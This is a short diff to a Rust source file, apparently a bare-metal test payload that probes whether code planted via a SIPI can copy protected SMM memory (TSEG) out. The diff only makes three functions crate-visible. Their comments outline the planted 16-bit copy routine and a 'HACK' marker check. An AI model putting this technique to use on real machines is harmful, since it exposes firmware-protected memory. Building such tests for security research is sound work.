@@ -41,12 +41,12 @@ fn marker() -> u64 {
 }
 
 /// The payload's own page for planted code, the target of the SIPI attack.
-fn sipi_plant() -> u64 {
+pub(crate) fn sipi_plant() -> u64 {
     u64::from(cpus::PLANT_PAGE.load(Ordering::SeqCst))
 }
 
 /// Write the attack code to `at`; in SMM it would copy TSEG (at `tseg`) out.
-fn plant_at(at: u64, tseg: u32) {
+pub(crate) fn plant_at(at: u64, tseg: u32) {
     // 16-bit code: mov esi,tseg; mov edi,leak; mov ecx,16;
     // 1: mov edx,[esi] (addr32); mov [edi],edx; add esi,4; add edi,4; loop 1b;
     // mov dword [marker],0x4B434148 ("HACK") (addr32); cli; hlt
@@ -126,7 +126,7 @@ pub fn after_online(plan: &Plan, apic: u32, tm: &PmTimer<'_, HwPorts>) {
 
 /// Whether the planted code ran anywhere (the marker) and whether it copied anything out
 /// of TSEG (a leaked dword neither 0 nor all-ones).
-fn leak_state() -> (bool, bool) {
+pub(crate) fn leak_state() -> (bool, bool) {
     // SAFETY: reading payload-owned low RAM (usable in the memory map): the scratch page.
     unsafe {
         let marker = core::ptr::read_volatile(marker() as *const u32) == MARKER;
